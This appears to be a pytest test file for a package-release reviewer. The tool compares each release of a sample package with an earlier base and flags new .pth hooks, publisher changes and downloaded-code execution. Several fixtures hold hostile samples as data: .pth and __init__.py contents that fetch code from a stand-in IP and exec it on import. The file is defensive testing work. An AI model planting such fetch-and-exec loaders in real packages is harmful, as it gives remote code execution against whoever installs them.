"""A release read beside its base, over a registry in memory."""

from __future__ import annotations

from functools import partial

import pytest

from pratique.batch import read_all
from pratique.cache import Cache
from pratique.ecosystems import Target
from pratique.errors import TargetNotFound
from pratique.model import Budget
from pratique.pipeline import Options
from pratique.releases import Against, Desk, plan, read_release

CLEAN = {"acme/__init__.py": b"VERSION = 1\n", "acme/a.py": b"def f(x):\n    return x + 1\n"}
HOOKED = CLEAN | {"acme.pth": b"import os; os.system('true')\n"}


@pytest.fixture
def read(registry):
    def read(version, against=None, **limits):
        files = partial(_read_all, options=Options(audience="everything"))
        desk = Desk(registry, files, Budget(), lambda _text: None)
        target = Target(kind="project", text=f"acme=={version}", name="acme", version=version)
        return [one.review for one in read_release(desk, plan(registry, target), against or Against())]

    return read


def _read_all(works, options):
    return read_all(works, options, jobs=0, cache=Cache(None))


def test_a_release_is_compared_with_the_one_that_stood(registry, read):
    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
    registry.add("1.1", HOOKED, "2026-03-01T00:00:00Z")
    registry.add("1.2", HOOKED, "2026-03-01T01:00:00Z")

    (found,) = read("1.2")

    assert found.compared is not None
    assert found.compared.base.package.version == "1.0"
    assert ("added", "entry") in [(one.kind, one.topic) for one in found.changes]


def test_a_candidate_with_an_open_look_is_passed_over(registry, read):
    bad = CLEAN | {
        "acme.pth": b"import os, urllib.request; exec(urllib.request.urlopen('http://203.0.113.7/x').read())\n"
    }
    registry.add("1.0", CLEAN, "2025-01-01T00:00:00Z")
    registry.add("1.1", bad, "2025-06-01T00:00:00Z")
    registry.add("1.2", bad, "2026-03-01T00:00:00Z")

    (found,) = read("1.2")

    assert found.compared is not None
    assert found.compared.base.package.version == "1.0"


def test_a_version_that_was_asked_for_is_the_base(registry, read):
    registry.add("1.0", CLEAN)
    registry.add("1.1", CLEAN)
    registry.add("1.2", CLEAN)

    (found,) = read("1.2", Against(version="1.0"))

    assert found.compared is not None
    assert (found.compared.base.package.version, found.compared.why) == ("1.0", "you asked for it")
    with pytest.raises(TargetNotFound):
        read("1.2", Against(version="0.9"))


def test_a_first_release_has_no_base(registry, read):
    registry.add("1.0", CLEAN)

    (found,) = read("1.0")

    assert (found.compared, found.changes) == (None, ())


def test_history_counts_what_changed_since_the_predecessor_and_in_a_year(registry, read):
    registry.add("1.0", CLEAN, "2025-03-01T00:00:00Z")
    registry.add("1.1", CLEAN, "2025-12-01T00:00:00Z")
    registry.add("1.2", HOOKED, "2026-02-28T00:00:00Z")
    registry.add("1.3", HOOKED, "2026-03-01T00:00:00Z")

    (found,) = read("1.3", Against(history=True))

    assert [one.base.package.version for one in found.beside] == ["1.2", "1.0"]
    assert found.beside[0].changes == ()
    assert dict(found.beside[1].changes)["entry"] == 1
    assert sorted(registry.fetched) == sorted(registry.files)


def test_a_reviewed_and_drawn_release_comes_from_the_cache(registry, tmp_path):
    registry.add("1.0", CLEAN)
    registry.add("1.1", HOOKED)
    target = Target(kind="project", text="acme", name="acme", version="1.1")

    def once():
        def files(works):
            return read_all(works, Options(), jobs=0, cache=Cache(tmp_path / "facts.sqlite"))

        desk = Desk(registry, files, Budget(), lambda _text: None)
        return next(iter(read_release(desk, plan(registry, target), Against()))).review

    first, again = once(), once()

    assert again.changes == first.changes
    assert again.cost.cached_files == again.read.code_files
    assert again.cost.cached_functions == again.cost.functions == 1


def test_functions_of_files_that_did_not_change_are_not_parsed_again(registry, tmp_path):
    both = CLEAN | {"acme/b.py": b"def g(x):\n    return x\n\n\ndef h(x):\n    return x + 2\n"}
    edited = both | {"acme/b.py": both["acme/b.py"].replace(b"x + 2", b"x + 3")}
    registry.add("1.0", both)
    registry.add("1.1", edited)

    def files(works):
        return read_all(works, Options(), jobs=0, cache=Cache(tmp_path / "facts.sqlite"))

    target = Target(kind="project", text="acme", name="acme", version="1.1")
    desk = Desk(registry, files, Budget(), lambda _text: None)
    (found,) = (one.review for one in read_release(desk, plan(registry, target), Against()))

    assert (found.cost.functions, found.cost.cached_functions) == (3, 1)
    assert found.compared is not None
    assert dict(found.compared.functions)["unchanged"] == 2
    assert found.compared.again == 1


@pytest.mark.parametrize(("now", "told"), [("acme/acme", "kept"), ("emca/acme", "changed: acme/acme → emca/acme")])
def test_who_attests_to_a_release_and_to_the_one_before_it(registry, read, now, told):
    old = registry.add("1.0", CLEAN, attested=True)
    new = registry.add("1.1", CLEAN, attested=True)
    registry.publishers = {old: "acme/acme", new: now}

    (found,) = read("1.1")

    fired = {one.rule for one in found.findings}
    assert ("change-its-publisher" in fired) is (told != "kept")
    assert found.verdict.level in {"clear", "note"}


LOUD = {"acme/__init__.py": b"import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/x').read())\n"}


@pytest.mark.parametrize(("long_ago", "news"), [(LOUD, False), (CLEAN, True)], ids=["stood", "came lately"])
def test_what_stood_longer_than_the_base_is_no_news(registry, read, long_ago, news):
    """The base is twenty days old, as that of a project with frequent releases always is."""
    registry.add("1.0", long_ago, "2025-06-01T00:00:00Z")
    registry.add("1.1", LOUD, "2026-02-10T00:00:00Z")
    registry.add("1.2", LOUD, "2026-03-01T00:00:00Z")

    (found,) = read("1.2", Against(version="1.1"))

    assert found.verdict.level in {"look", "block"}
    assert (found.queued in {"look", "block"}) is news
    assert [one.standing for one in found.findings if one.rule == "run-downloaded-code"] == [not news]


def test_one_more_letter_is_news_however_long_the_rest_stood(registry, read):
    registry.add("1.0", LOUD, "2025-06-01T00:00:00Z")
    registry.add("1.1", LOUD, "2026-02-10T00:00:00Z")
    registry.add("1.2", {"acme/__init__.py": LOUD["acme/__init__.py"].replace(b"/x", b"/y")}, "2026-03-01T00:00:00Z")

    (found,) = read("1.2", Against(version="1.1"))

    assert found.queued == found.verdict.level
